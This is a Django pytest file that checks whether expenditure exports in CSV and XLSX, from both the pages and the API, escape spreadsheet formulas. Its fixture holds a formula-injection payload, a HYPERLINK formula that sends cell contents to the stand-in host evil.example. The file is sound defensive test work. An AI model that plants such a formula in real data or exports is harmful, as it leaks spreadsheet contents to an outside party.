"""Issue 17 item 2: every export, on the pages and in the API, writes text a spreadsheet would run as a
formula as plain text (CSV with a leading apostrophe, XLSX as a string cell)."""

import io

import openpyxl
import pytest
from django.urls import reverse

from tests.conftest import api_as
from tests.trust.conftest import spend

pytestmark = pytest.mark.django_db
PAYEE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def csv_text(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode("utf-8-sig")


def xlsx_cells(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value]


@pytest.fixture
def row(grants):
    return spend(grants.own, "10.00", payee=PAYEE, description="+SUM(1,2)")


def test_the_page_export_neutralises_formulas(client, world, row):
    client.force_login(world.users["sbn_viewer"])
    url = reverse("grants:expenditure-list")
    text = csv_text(client.get(url, {"export": "csv"}))
    assert "'" + PAYEE.replace('"', '""') in text and "'+SUM(1,2)" in text
    cells = xlsx_cells(client.get(url, {"export": "xlsx"}))
    assert (PAYEE, "s") in cells and ("+SUM(1,2)", "s") in cells


def test_the_api_export_neutralises_formulas(world, row):
    client = api_as(world.users["school_staff"])
    text = csv_text(client.get("/api/v1/expenditures/", {"export": "csv"}))
    assert "'" + PAYEE.replace('"', '""') in text and "'+SUM(1,2)" in text
    cells = xlsx_cells(client.get("/api/v1/expenditures/", {"export": "xlsx"}))
    assert (PAYEE, "s") in cells
